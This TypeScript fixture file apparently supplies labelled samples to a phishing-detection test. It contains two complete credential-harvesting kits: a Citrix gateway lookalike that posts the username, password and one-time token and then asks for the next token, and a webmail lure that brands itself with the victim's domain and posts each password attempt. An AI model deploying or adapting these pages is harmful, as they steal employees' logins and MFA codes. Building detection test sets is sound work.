import type { Entry } from '../entry.js';
import { doc, jsRoute, jsonRoute, png, pngRoute } from '../parts/t-kit.js';

// Reported by employees: Citrix gateway and "your organisation's" webmail lures — blind split.

const ctxHost = 'citrix.hartwell-eng-remote.com';
const wmHost = 'mail-portal.secure-webaccess.net';
const logoHost = 'logo.favicon-grabber.net';

export const entries: Entry[] = [
  {
    id: 't-ph-citrix-gateway-lookalike',
    label: 'phishing',
    kind: 'vpn-kit',
    url: `https://${ctxHost}/logon/LogonPoint/tmindex.html`,
    body: doc(
      'NetScaler AAA',
      `<link rel="icon" href="/logon/LogonPoint/receiver/images/common/icon_vpn.png"><style>
body{margin:0;font-family:"Citrix Sans",Arial,sans-serif;background:#313131 radial-gradient(circle at 30% 20%,#4a5a6a,#1f262d);color:#fff;min-height:100vh}
.lb{width:420px;margin:14vh auto 0;text-align:center}.lg{font-size:28px;letter-spacing:2px;margin-bottom:30px}
.lb input{width:100%;height:40px;margin:6px 0;border:0;border-radius:2px;padding:0 12px;box-sizing:border-box;font-size:15px}
.lb button{width:100%;height:40px;background:#02a1c1;border:0;color:#fff;font-size:15px;cursor:pointer;margin-top:12px}
.er{color:#ffb3b3;font-size:13px;min-height:18px}</style>`,
      `<div class="lb"><div class="lg">citrix</div><div style="margin-bottom:14px">Please log on</div>
<form id="cf"><input name="login" placeholder="User name" autocomplete="off"><input name="passwd" type="password" placeholder="Password"><input name="passwd1" type="password" placeholder="Token / Passcode"><div class="er" id="er"></div><button>Log On</button></form>
<p style="font-size:11px;opacity:.6;margin-top:40px">Hartwell Engineering Remote Access. Unauthorised access is prohibited.</p></div>
<script src="/logon/LogonPoint/init.js"></script>`,
    ),
    routes: {
      [`${ctxHost}/logon/LogonPoint/receiver/images/common/icon_vpn.png`]: pngRoute(2, 161, 193),
      [`${ctxHost}/logon/LogonPoint/init.js`]: jsRoute(`(function(){var f=document.getElementById('cf');f.onsubmit=function(e){e.preventDefault();
var b=[f.login.value,f.passwd.value,f.passwd1.value].map(encodeURIComponent).join('|');
fetch('/cgi/login',{method:'POST',body:'d='+btoa(b)}).then(function(r){return r.json()}).then(function(j){document.getElementById('er').textContent=j.msg||'Incorrect credentials. Try again.';f.passwd1.value=''}).catch(function(){document.getElementById('er').textContent='Incorrect credentials. Try again.'})};})();`),
      [`${ctxHost}/cgi/login`]: jsonRoute({ msg: 'Your token has expired. Enter the next token code.' }),
    },
  },
  {
    id: 't-ph-webmail-domain-branded',
    label: 'phishing',
    kind: 'webmail-kit',
    url: `https://${wmHost}/auth/?a=bS5jaGVuQGhhcnR3ZWxsLWVuZy5jb20=`,
    body: doc(
      'Webmail Login',
      `<style>body{margin:0;font-family:Arial,sans-serif;background:#e9edf1}
.box{width:380px;margin:10vh auto;background:#fff;border-radius:6px;box-shadow:0 3px 14px rgba(0,0,0,.12);padding:34px;text-align:center}
#lg{height:56px;width:56px;object-fit:contain;margin-bottom:8px}#co{font-size:20px;font-weight:700;color:#333}
input{width:100%;padding:11px;border:1px solid #ccd3da;border-radius:4px;margin:6px 0;box-sizing:border-box;font-size:14px}
button{width:100%;padding:11px;border:0;border-radius:4px;background:#2f6fdb;color:#fff;font-weight:700;cursor:pointer;margin-top:6px}
.sm{font-size:12px;color:#777;margin-top:16px}</style>`,
      `<div class="box"><img id="lg" alt=""><div id="co">Webmail</div><p style="font-size:13px;color:#555">Sign in to continue to your mailbox</p>
<form id="wf"><input id="em" type="email" readonly><input id="pw" type="password" placeholder="Password" required><div id="er" style="color:#d33;font-size:12px;min-height:14px"></div><button>Sign In</button></form>
<div class="sm">&copy; <span id="yr"></span> <span id="co2"></span> &middot; Secured Mail Service</div></div>
<script>
(function(){var a='';try{a=atob(new URLSearchParams(location.search).get('a')||'')}catch(e){}
var dom=(a.split('@')[1]||'').toLowerCase(),name=dom.split('.')[0]||'Webmail';
document.getElementById('em').value=a;
document.getElementById('lg').src='https://${logoHost}/v1/'+dom+'?size=128';
var nice=name.replace(/-/g,' ').replace(/\\b\\w/g,function(c){return c.toUpperCase()});
document.getElementById('co').textContent=nice;document.getElementById('co2').textContent=nice;document.title=nice+' - Webmail Login';document.getElementById('yr').textContent=new Date().getFullYear();
var n=0;document.getElementById('wf').onsubmit=function(e){e.preventDefault();n++;
fetch('/auth/next.php',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'email='+encodeURIComponent(a)+'&password='+encodeURIComponent(document.getElementById('pw').value)+'&try='+n});
document.getElementById('pw').value='';if(n<3){document.getElementById('er').textContent='Incorrect password. Please try again.'}else{location.href='https://'+dom}};})();
</script>`,
    ),
    routes: {
      [`${logoHost}/v1/hartwell-eng.com`]: { status: 200, headers: { 'content-type': 'image/png', 'access-control-allow-origin': '*' }, body: png(29, 78, 137) },
    },
  },
];
